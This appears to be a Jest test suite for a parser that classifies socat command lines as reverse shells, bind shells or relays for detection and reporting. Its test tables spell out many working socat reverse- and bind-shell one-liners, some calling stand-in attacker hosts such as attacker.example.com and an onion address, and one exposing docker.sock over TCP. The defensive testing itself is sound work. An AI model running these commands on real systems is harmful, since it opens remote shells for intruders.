import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { C2Endpoint } from '../../lib/report/types.js';
import { parseSocatArgs } from '../../lib/socat/args.js';

/** Full expected endpoint, positional so each table row stays on one line. */
function c2(
  role: C2Endpoint['role'],
  transport: C2Endpoint['transport'],
  host: string | null,
  port: number | null,
  ipVersion: 4 | 6 | null,
  program: string | null,
  pty: boolean,
): C2Endpoint {
  return { role, transport, host, port, ipVersion, program, pty };
}

const NOTHING = c2('unknown', null, null, null, null, null, false);
const SANE = 'pty,stderr,setsid,sigint,sane';

// argv as the kernel hands it over: a shell has already removed its own quotes,
// so `EXEC:'bash -li'` typed at a prompt arrives as `EXEC:bash -li`. Rows that
// keep the quotes model socat's own quoting (a command quoted twice, or argv
// built by a program).
const cases: ReadonlyArray<readonly [string, readonly string[], C2Endpoint]> = [
  // --- reverse shells (cheat-sheet one-liners) ---
  ['PayloadsAllTheThings TCP + quoted EXEC', ['socat', 'TCP:10.0.0.1:4242', `EXEC:'bash -li',${SANE}`],
    c2('reverse', 'tcp', '10.0.0.1', 4242, 4, 'bash -li', true)],
  ['same, shell quotes already removed, full path argv[0]', ['/usr/bin/socat', 'tcp:10.0.0.1:4242', `exec:bash -li,${SANE}`],
    c2('reverse', 'tcp', '10.0.0.1', 4242, 4, 'bash -li', true)],
  ['EXEC first, no argv[0]', [`exec:'bash -li',${SANE}`, 'tcp:10.0.0.1:4242'],
    c2('reverse', 'tcp', '10.0.0.1', 4242, 4, 'bash -li', true)],
  ['unexpanded $RHOST:$RPORT keeps the host text, port unknown', ['socat', 'tcp-connect:$RHOST:$RPORT', 'exec:/bin/sh,pty,stderr,setsid'],
    c2('reverse', 'tcp', '$RHOST', null, null, '/bin/sh', true)],
  ['TCP-CONNECT to a hostname, ./socat', ['./socat', 'tcp-connect:attacker.example.com:443', 'exec:/bin/sh,pty,stderr,setsid'],
    c2('reverse', 'tcp', 'attacker.example.com', 443, null, '/bin/sh', true)],
  ['OPENSSL reverse shell with verify=0', ['socat', 'OPENSSL:10.10.14.3:4443,verify=0', 'EXEC:/bin/bash'],
    c2('reverse', 'tls', '10.10.14.3', 4443, 4, '/bin/bash', false)],
  ['OPENSSL-CONNECT to a hostname', ['socat', 'openssl-connect:c2.example.net:443,verify=0', `exec:bash -li,${SANE}`],
    c2('reverse', 'tls', 'c2.example.net', 443, null, 'bash -li', true)],
  ['SSL alias with -d -d and double-quoted SYSTEM', ['socat', '-d', '-d', 'SSL:203.0.113.7:8443,verify=0,cert=client.pem', 'SYSTEM:"bash -i",pty,stderr'],
    c2('reverse', 'tls', '203.0.113.7', 8443, 4, 'bash -i', true)],
  ['TLS is no socat keyword (socat -h of 1.7.4 lists OPENSSL and SSL only): refused', ['socat', 'TLS:198.51.100.20:993', 'EXEC:sh'],
    c2('unknown', null, null, null, null, 'sh', false)],
  ['quoted SYSTEM command holding commas and colons', ['socat', 'TCP4:192.0.2.10:9001', 'SYSTEM:"echo a,b:c; bash -i 2>&1",pty,stderr'],
    c2('reverse', 'tcp', '192.0.2.10', 9001, 4, 'echo a,b:c; bash -i 2>&1', true)],
  ['single-quoted EXEC with nested double quotes', ['socat', "EXEC:'bash -c \"exec bash -i\"',pty", 'TCP:192.0.2.11:80'],
    c2('reverse', 'tcp', '192.0.2.11', 80, 4, 'bash -c "exec bash -i"', true)],
  ['UDP4 reverse shell', ['socat', 'UDP4:10.0.0.1:53', 'EXEC:/bin/sh'],
    c2('reverse', 'udp', '10.0.0.1', 53, 4, '/bin/sh', false)],
  ['UDP-SENDTO reverse shell', ['socat', 'udp-sendto:198.51.100.2:5353', 'exec:sh,pty'],
    c2('reverse', 'udp', '198.51.100.2', 5353, 4, 'sh', true)],
  ['TCP6 with bracketed IPv6 literal', ['socat', 'TCP6:[2001:db8::1]:4444', 'EXEC:/bin/bash,pty,stderr'],
    c2('reverse', 'tcp', '2001:db8::1', 4444, 6, '/bin/bash', true)],
  ['plain tcp to [::1]', ['socat', 'tcp:[::1]:80', 'exec:sh'],
    c2('reverse', 'tcp', '::1', 80, 6, 'sh', false)],
  ['TCP6 to a hostname: version from the keyword', ['socat', 'tcp6:c2.example.org:8080', 'exec:sh'],
    c2('reverse', 'tcp', 'c2.example.org', 8080, 6, 'sh', false)],
  ['TCP4 to a hostname: version from the keyword', ['socat', 'TCP4-CONNECT:c2.example.org:8080', 'EXEC:sh'],
    c2('reverse', 'tcp', 'c2.example.org', 8080, 4, 'sh', false)],
  ['SOCKS4A through Tor: target, not proxy', ['socat', 'SOCKS4A:127.0.0.1:abcdefghijklmnop.onion:4444,socksport=9050', 'EXEC:/bin/bash'],
    c2('reverse', 'socks', 'abcdefghijklmnop.onion', 4444, null, '/bin/bash', false)],
  ['SOCKS5 (socat 1.8) proxy:host:port', ['socat', 'SOCKS5:proxy.example:198.51.100.9:443', 'EXEC:sh,pty'],
    c2('reverse', 'socks', '198.51.100.9', 443, 4, 'sh', true)],
  ['SOCKS4 with proxy port in the address', ['socat', 'socks4:10.1.1.1:1080:203.0.113.5:22', 'exec:sh'],
    c2('reverse', 'socks', '203.0.113.5', 22, 4, 'sh', false)],
  ['PROXY CONNECT with proxyport=', ['socat', 'PROXY:proxy.corp:c2.example.com:443,proxyport=3128', 'EXEC:/bin/sh,pty'],
    c2('reverse', 'proxy', 'c2.example.com', 443, null, '/bin/sh', true)],
  ['PROXY-CONNECT to a bracketed IPv6 target', ['socat', 'PROXY-CONNECT:[fd00::1]:[2001:db8::5]:443', 'EXEC:sh'],
    c2('reverse', 'proxy', '2001:db8::5', 443, 6, 'sh', false)],
  ['service-name port https', ['socat', 'tcp:c2.example.com:https', 'exec:sh'],
    c2('reverse', 'tcp', 'c2.example.com', 443, null, 'sh', false)],
  ['service name through the services database (gopher is 70)', ['socat', 'tcp:c2.example.com:gopher', 'exec:sh'],
    c2('reverse', 'tcp', 'c2.example.com', 70, null, 'sh', false)],
  ['service name not in the database: port stays null', ['socat', 'tcp:c2.example.com:nosuchservice', 'exec:sh'],
    c2('reverse', 'tcp', 'c2.example.com', null, null, 'sh', false)],
  ['mixed-case keywords and option', ['socat', 'Tcp-Connect:10.0.0.9:8000', 'ExEc:/bin/sh,PTY,stderr'],
    c2('reverse', 'tcp', '10.0.0.9', 8000, 4, '/bin/sh', true)],
  ['pty=0 switches the pty off', ['socat', 'tcp:10.0.0.1:4242', 'exec:sh,pty=0'],
    c2('reverse', 'tcp', '10.0.0.1', 4242, 4, 'sh', false)],
  ['SHELL address (socat 1.8)', ['socat', 'TCP:10.0.0.1:4242', "SHELL:'bash -i',pty"],
    c2('reverse', 'tcp', '10.0.0.1', 4242, 4, 'bash -i', true)],

  // --- socat options before the addresses ---
  ['-d -d -lf FILE -T 10 (separate values)', ['socat', '-d', '-d', '-lf', '/tmp/x', '-T', '10', 'TCP:10.0.0.1:443', 'EXEC:sh'],
    c2('reverse', 'tcp', '10.0.0.1', 443, 4, 'sh', false)],
  ['-dd -T10 -t5 -b8192 -lp NAME -L LOCK (attached and separate)', ['socat', '-dd', '-T10', '-t5', '-b8192', '-lp', 'sshd', '-L', '/tmp/lock', 'TCP:10.0.0.2:22', 'EXEC:sh,pty'],
    c2('reverse', 'tcp', '10.0.0.2', 22, 4, 'sh', true)],
  ['-lf/tmp/x -u -v -x -s -4 flags', ['socat', '-lf/tmp/x', '-u', '-v', '-x', '-s', '-4', '-lu', '-lh', 'TCP:10.0.0.3:8443', 'EXEC:sh'],
    c2('reverse', 'tcp', '10.0.0.3', 8443, 4, 'sh', false)],
  ['1.8 dump options -r/-R take a file, -W a lockfile', ['socat', '-r', '/tmp/in.dump', '-R', '/tmp/out.dump', '-W', '/tmp/w', '--statistics', 'TCP:10.0.0.4:80', 'EXEC:sh'],
    c2('reverse', 'tcp', '10.0.0.4', 80, 4, 'sh', false)],
  ['renamed binary: argv[0] recognised by the option after it', ['/tmp/.x/kworker', '-d', 'tcp:10.0.0.5:4444', 'exec:sh'],
    c2('reverse', 'tcp', '10.0.0.5', 4444, 4, 'sh', false)],

  // --- bind shells ---
  ['TCP-LISTEN bind shell', ['socat', 'TCP-LISTEN:1337,reuseaddr,fork', `EXEC:bash,${SANE}`],
    c2('bind', 'tcp', null, 1337, null, 'bash', true)],
  ['TCP-L short form', ['socat', 'TCP-L:4444', 'EXEC:/bin/sh'],
    c2('bind', 'tcp', null, 4444, null, '/bin/sh', false)],
  ['TCP6-LISTEN with SYSTEM', ['socat', 'TCP6-LISTEN:4444,fork', 'SYSTEM:bash -i'],
    c2('bind', 'tcp', null, 4444, 6, 'bash -i', false)],
  ['OPENSSL-LISTEN encrypted bind shell', ['socat', 'OPENSSL-LISTEN:443,cert=bind.pem,verify=0,fork', 'EXEC:/bin/sh'],
    c2('bind', 'tls', null, 443, null, '/bin/sh', false)],
  ['SSL-L alias', ['socat', 'SSL-L:8443,cert=x.pem', 'EXEC:bash,pty'],
    c2('bind', 'tls', null, 8443, null, 'bash', true)],
  ['UDP-LISTEN bind shell', ['socat', 'UDP-LISTEN:53,fork', 'EXEC:/bin/sh'],
    c2('bind', 'udp', null, 53, null, '/bin/sh', false)],
  ['UDP4-RECVFROM with EXEC first', ['socat', 'EXEC:sh', 'UDP4-RECVFROM:5000,fork'],
    c2('bind', 'udp', null, 5000, 4, 'sh', false)],
  ['listen port given as service name', ['socat', 'TCP-LISTEN:ssh,fork', 'EXEC:sh'],
    c2('bind', 'tcp', null, 22, null, 'sh', false)],

  // --- relays ---
  ['port forward to a remote host', ['socat', 'TCP-LISTEN:80,fork', 'TCP:202.54.1.5:80'],
    c2('relay', 'tcp', '202.54.1.5', 80, 4, null, false)],
  ['forward into Tor via SOCKS4A', ['socat', 'TCP4-LISTEN:8080,reuseaddr,fork', 'SOCKS4A:127.0.0.1:internal.example:80,socksport=9050'],
    c2('relay', 'socks', 'internal.example', 80, null, null, false)],
  ['both sides listen: the first is reported', ['socat', 'TCP-LISTEN:4444', 'TCP-LISTEN:5555'],
    c2('relay', 'tcp', null, 4444, null, null, false)],
  ['docker.sock exposed over TCP: the IP side is reported', ['socat', 'TCP-LISTEN:2375,reuseaddr,fork', 'UNIX-CONNECT:/var/run/docker.sock'],
    c2('relay', 'tcp', null, 2375, null, null, false)],
  ['UNIX-LISTEN forwarded to a database', ['socat', 'UNIX-LISTEN:/tmp/mysql.sock,fork', 'TCP:db.internal:3306'],
    c2('relay', 'tcp', 'db.internal', 3306, null, null, false)],
  ['UNIX to UNIX: transport only', ['socat', 'UNIX-LISTEN:/tmp/a,fork', 'UNIX:/tmp/b'],
    c2('relay', 'unix', null, null, null, null, false)],
  ['UDP DNS forwarder', ['socat', 'UDP4-RECVFROM:53,fork', 'UDP4-SENDTO:8.8.8.8:53'],
    c2('relay', 'udp', '8.8.8.8', 53, 4, null, false)],
  ['TLS terminator in front of localhost', ['socat', 'OPENSSL-LISTEN:443,cert=s.pem,fork', 'TCP:localhost:80'],
    c2('relay', 'tcp', 'localhost', 80, null, null, false)],

  // --- neither shell nor relay ---
  ['attacker listener with backticks left in', ['socat', 'file:`tty`,raw,echo=0', 'tcp-listen:4444'],
    c2('unknown', 'tcp', null, 4444, null, null, false)],
  ['attacker listener as the shell expands it', ['socat', 'file:/dev/pts/3,raw,echo=0', 'TCP-LISTEN:4444,reuseaddr'],
    c2('unknown', 'tcp', null, 4444, null, null, false)],
  ['STDIO "-" to a remote port', ['socat', '-', 'TCP:10.0.0.1:4444'],
    c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false)],
  ['connect + stdio keyword', ['socat', 'tcp:1.2.3.4:4444', 'stdio'],
    c2('unknown', 'tcp', '1.2.3.4', 4444, 4, null, false)],
  ['STDIO "-" first, no argv[0]', ['-', 'OPENSSL:10.0.0.7:443,verify=0'],
    c2('unknown', 'tls', '10.0.0.7', 443, 4, null, false)],
  ['"-!!-" is the STDIO dual address, not an option', ['socat', '-!!-', 'TCP:10.0.0.1:4444'],
    c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false)],
  ['STDIN!!STDOUT dual to a remote port', ['socat', 'STDIN!!STDOUT', 'TCP:10.0.0.1:4444'],
    c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false)],
  ['dual address with a network half is a network address', ['socat', 'STDIN!!TCP:10.0.0.8:4444', 'EXEC:sh,pty'],
    c2('reverse', 'tcp', '10.0.0.8', 4444, 4, 'sh', true)],
  ['STDIN!!STDOUT with EXEC: no network', ['socat', 'STDIN!!STDOUT', 'EXEC:cat'],
    c2('unknown', null, null, null, null, 'cat', false)],
  ['PTY link to a remote serial server', ['socat', 'PTY,link=/tmp/ttyV0,raw,echo=0', 'TCP:10.0.0.5:5000'],
    c2('unknown', 'tcp', '10.0.0.5', 5000, 4, null, false)],
  ['EXEC on a local UNIX socket is not a remote shell', ['socat', 'UNIX-CONNECT:/run/app.sock', 'EXEC:/bin/sh,pty'],
    c2('unknown', 'unix', null, null, null, '/bin/sh', true)],
  ['STDIO with EXEC', ['socat', '-', "EXEC:'ssh -t host',pty"],
    c2('unknown', null, null, null, null, 'ssh -t host', true)],
  ['FILE to GOPEN', ['socat', 'FILE:/etc/hosts', 'GOPEN:/tmp/x'], NOTHING],
];

describe('parseSocatArgs: real-world invocations', () => {
  it.each(cases)('%s', (_name, argv, expected) => {
    expect(parseSocatArgs(argv)).toMatchObject(expected);
  });

  it('has a broad table', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });
});

describe('parseSocatArgs: malformed argv', () => {
  it.each<readonly [string, readonly string[]]>([
    ['empty array', []],
    ['only argv[0]', ['socat']],
    ['only options', ['socat', '-d', '-d', '-lf', '/tmp/x']],
    ['one address', ['socat', 'TCP:10.0.0.1:4444']],
    ['three addresses', ['socat', 'TCP:10.0.0.1:4444', 'EXEC:sh', 'STDIO']],
    ['option value swallows an address', ['socat', '-lf', 'TCP:10.0.0.1:4444', 'EXEC:sh']],
  ])('%s → unknown with nulls', (_name, argv) => {
    expect(parseSocatArgs(argv)).toMatchObject(NOTHING);
  });

  it.each<readonly [string, unknown]>([
    ['null', null],
    ['a string', 'socat TCP:1.2.3.4:1 EXEC:sh'],
    ['non-string elements', ['socat', 42, { toString: () => 'TCP:1.2.3.4:1' }]],
  ])('untyped input (%s) → unknown with nulls', (_name, input) => {
    expect(parseSocatArgs(input as readonly string[])).toMatchObject(NOTHING);
  });

  it('unbalanced quote in EXEC: no program, the network side is still reported', () => {
    expect(parseSocatArgs(['socat', 'TCP:10.0.0.1:4444', "EXEC:'bash -li,pty,stderr"]))
      .toMatchObject(c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false));
  });

  it('unbalanced quote in the network address: only the program is reported', () => {
    expect(parseSocatArgs(['socat', 'TCP:"10.0.0.1:4444', 'EXEC:sh,pty']))
      .toMatchObject(c2('unknown', null, null, null, null, 'sh', true));
  });

  it('unclosed IPv6 bracket makes the address unusable', () => {
    expect(parseSocatArgs(['socat', 'TCP6:[2001:db8::1:4444', 'EXEC:sh']))
      .toMatchObject(c2('unknown', null, null, null, null, 'sh', false));
  });

  // socat reads a port with strtoul(…, 0) and keeps 16 bits (recorded in test/fixtures/socat/recorded.json).
  it.each<readonly [string, number | null]>([['0', 0], ['70000', 4464], ['04444', 2340], ['0x115c', 4444], ['4444x', 4444], ['abc', null], ['-1', null], ['', null]])(
    'port %p is %p as socat converts it, host kept',
    (port, expected) => {
      expect(parseSocatArgs(['socat', `TCP:10.0.0.1:${port}`, 'EXEC:sh']))
        .toMatchObject(c2('reverse', 'tcp', '10.0.0.1', expected, 4, 'sh', false));
    },
  );

  it('listen port past 65535 wraps as in socat', () => {
    expect(parseSocatArgs(['socat', 'TCP-LISTEN:99999', 'EXEC:sh']))
      .toMatchObject(c2('bind', 'tcp', null, 99999 & 0xffff, null, 'sh', false));
  });

  it('wrong parameter count: socat refuses, so role unknown with the reason and nothing invented', () => {
    for (const address of ['TCP:10.0.0.1', 'tcp4:2001:db8::1:80', 'SOCKS4A:only-proxy:80']) {
      const r = parseSocatArgs(['socat', address, 'EXEC:sh']);
      expect(r).toMatchObject(c2('unknown', null, null, null, null, 'sh', false));
      expect(r.refused).toMatch(/wrong number of parameters/);
    }
  });

  it('empty EXEC command → program null', () => {
    expect(parseSocatArgs(['socat', 'TCP:10.0.0.1:1', "EXEC:''"]))
      .toMatchObject(c2('reverse', 'tcp', '10.0.0.1', 1, 4, null, false));
  });
});

describe('parseSocatArgs: hostile sizes', () => {
  const MB = 1024 * 1024;
  const huge: ReadonlyArray<readonly [string, readonly string[]]> = [
    ['1 MB EXEC command', ['socat', 'TCP:10.0.0.1:4444', `EXEC:${'a'.repeat(MB)}`]],
    ['1 MB of open brackets', ['socat', '['.repeat(MB), 'EXEC:sh']],
    ['1 MB of quotes and escapes', ['socat', `TCP:${`'\\"`.repeat(MB / 3)}`, 'EXEC:sh']],
    ['1 MB of colons and commas', ['socat', `TCP:${':,'.repeat(MB / 2)}`, 'EXEC:sh']],
    ['1 MB of dual separators', ['socat', '!'.repeat(MB), 'EXEC:sh']],
    ['1 MB argv[0]', [`/${'x/'.repeat(MB / 2)}socat`, 'TCP:10.0.0.1:4444', 'EXEC:sh']],
    ['1 MB option value', ['socat', '-lf', 'f'.repeat(MB), 'TCP:10.0.0.1:4444', 'EXEC:sh']],
  ];

  it.each(huge)('%s never throws (the jest timeout is the hang guard; speed belongs to the benchmarks)', (_name, argv) => {
    const result = parseSocatArgs(argv);
    expect(['reverse', 'bind', 'relay', 'unknown']).toContain(result.role);
  });

  it('an address longer than the kernel allows is not read', () => {
    expect(parseSocatArgs(['socat', 'TCP:10.0.0.1:4444', `EXEC:${'a'.repeat(MB)}`]))
      .toMatchObject(c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false));
  });

  // Inputs just under the limit are fully lexed, so these time the scanner itself.
  const NEAR = 120 * 1024;
  it.each<readonly [string, readonly string[], C2Endpoint]>([
    ['30k options before pty', ['socat', 'TCP:10.0.0.1:4444', `EXEC:sh${',sane'.repeat(NEAR / 5 - 10)},pty`],
      c2('reverse', 'tcp', '10.0.0.1', 4444, 4, 'sh', true)],
    ['120k open brackets', ['socat', '['.repeat(NEAR), 'EXEC:sh'],
      c2('unknown', null, null, null, null, 'sh', false)],
    ['120k nested bracket pairs around the command', ['socat', 'TCP:10.0.0.1:1', `SYSTEM:${'('.repeat(NEAR / 2)}${')'.repeat(NEAR / 2)}`],
      c2('reverse', 'tcp', '10.0.0.1', 1, 4, `${'('.repeat(NEAR / 2)}${')'.repeat(NEAR / 2)}`, false)],
    ['120k colons (socat refuses)', ['socat', `TCP:${':'.repeat(NEAR)}`, 'EXEC:sh'],
      c2('unknown', null, null, null, null, 'sh', false)],
    ['120k escaped quotes in a quoted command (socat unescapes them)', ['socat', 'TCP:10.0.0.1:1', `EXEC:"${'\\"'.repeat(NEAR / 2)}"`],
      c2('reverse', 'tcp', '10.0.0.1', 1, 4, '"'.repeat(NEAR / 2), false)],
  ])('just under the size limit: %s', (_name, argv, expected) => {
    expect(parseSocatArgs(argv)).toMatchObject(expected);
  });

  it('a long host inside the size limit is kept verbatim', () => {
    const host = 'h'.repeat(10_000);
    expect(parseSocatArgs(['socat', `TCP:${host}:80`, 'EXEC:sh']))
      .toMatchObject(c2('reverse', 'tcp', host, 80, null, 'sh', false));
  });

  it('100k options are skipped in linear time', () => {
    const argv = ['socat', ...Array.from({ length: 100_000 }, () => '-d'), 'TCP:10.0.0.1:4444', 'EXEC:sh'];
    expect(parseSocatArgs(argv)).toMatchObject(c2('reverse', 'tcp', '10.0.0.1', 4444, 4, 'sh', false));
  });
});

describe('parseSocatArgs: properties', () => {
  const socatish = fc.array(
    fc.oneof(
      fc.string(),
      fc.constantFrom('socat', '-', '-d', '-lf', '-T', 'STDIO', 'EXEC:sh,pty', 'TCP:1.2.3.4:80', 'TCP-L:80', '[', "'", '!!'),
      fc.stringMatching(/^[A-Za-z0-9:,\[\]'"!=\\ .-]{0,40}$/),
    ),
    { maxLength: 6 },
  );

  it('never throws and always returns a well-formed endpoint', () => {
    fc.assert(
      fc.property(socatish, (argv) => {
        const r = parseSocatArgs(argv);
        expect(Object.keys(r).sort()).toEqual(['hop', 'host', 'ipVersion', 'note', 'peers', 'port', 'program', 'pty', 'refused', 'role', 'socket', 'transport']);
        expect(['reverse', 'bind', 'relay', 'unknown']).toContain(r.role);
        expect([null, 'tcp', 'udp', 'tls', 'socks', 'proxy', 'unix', 'other']).toContain(r.transport);
        expect([null, 4, 6]).toContain(r.ipVersion);
        expect(typeof r.pty).toBe('boolean');
        if (r.port !== null) expect(Number.isInteger(r.port) && r.port >= 0 && r.port <= 65535).toBe(true);
        if (r.refused !== null) expect(r.role).toBe('unknown');
        if (r.transport === null) expect([r.host, r.port, r.ipVersion]).toEqual([null, null, null]);
        if (r.role === 'reverse' || r.role === 'bind') expect(r.transport).not.toBeNull();
        if (r.role === 'bind') expect(r.host).toBeNull();
      }),
      { numRuns: 2000 },
    );
  });

  it('is pure: same input, same output, input untouched', () => {
    const argv = Object.freeze(['socat', '-d', 'TCP:10.0.0.1:4242', `EXEC:'bash -li',${SANE}`]);
    expect(parseSocatArgs(argv)).toEqual(parseSocatArgs([...argv]));
  });
});

describe('parseSocatArgs: facts beyond host and port', () => {
  it.each<readonly [string, string, string]>([
    ['docker.sock', 'UNIX-CONNECT:/var/run/docker.sock', '/var/run/docker.sock'],
    ['X11', 'UNIX-CONNECT:/tmp/.X11-unix/X0', '/tmp/.X11-unix/X0'],
    ['a database socket', 'UNIX-CONNECT:/var/run/mysqld/mysqld.sock', '/var/run/mysqld/mysqld.sock'],
    ['an abstract socket', 'ABSTRACT-CONNECT:/containerd-shim/x.sock', '@/containerd-shim/x.sock'],
  ])('a TCP listener bridged to %s is a relay naming the socket', (_name, unix, socket) => {
    expect(parseSocatArgs(['socat', 'TCP-LISTEN:2375,reuseaddr,fork', unix])).toMatchObject({ role: 'relay', transport: 'tcp', port: 2375, socket });
  });

  it.each<readonly [string, readonly string[], RegExp]>([
    ['unknown keyword', ['socat', 'TCPX:1.2.3.4:1', 'EXEC:sh'], /no address type/],
    ['unknown address option', ['socat', 'TCP:1.2.3.4:1,bogus', 'EXEC:sh'], /option is unknown/],
    ['unknown socat option', ['socat', '-Z', 'TCP:1.2.3.4:1', 'EXEC:sh'], /no option/],
    ['unclosed quote', ['socat', 'TCP:1.2.3.4:1', "EXEC:'bash -li,pty"], /quote is not closed/],
    ['EXEC with an unquoted colon', ['socat', 'TCP:1.2.3.4:1', 'EXEC:sh -c a:b'], /wrong number of parameters/],
    ['-V prints and exits', ['socat', '-V', 'TCP:1.2.3.4:1', 'EXEC:sh'], /print and exit/],
  ])('%s: role unknown with the reason', (_name, argv, reason) => {
    const r = parseSocatArgs(argv);
    expect(r.role).toBe('unknown');
    expect(r.refused).toMatch(reason);
  });

  it('program is what socat runs, after its unquoting and unescaping', () => {
    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'EXEC:sh -c echo\\:x']).program).toBe('sh -c echo:x');
    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'EXEC:"sh -c \'id\'"']).program).toBe("sh -c 'id'");
    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'SYSTEM:echo a\\,b,pty'])).toMatchObject({ program: 'echo a,b', pty: true });
    expect(parseSocatArgs(['socat', 'TCP:1.2.3.4:1', 'SYSTEM:echo a:b']).program).toBe('echo a');
  });

  it('both halves of a dual address are peers, the connecting one first', () => {
    expect(parseSocatArgs(['socat', 'TCP-LISTEN:80!!TCP:1.2.3.4:5', 'EXEC:sh']).peers?.map((p) => p.direction)).toEqual(['connect', 'listen']);
  });
});
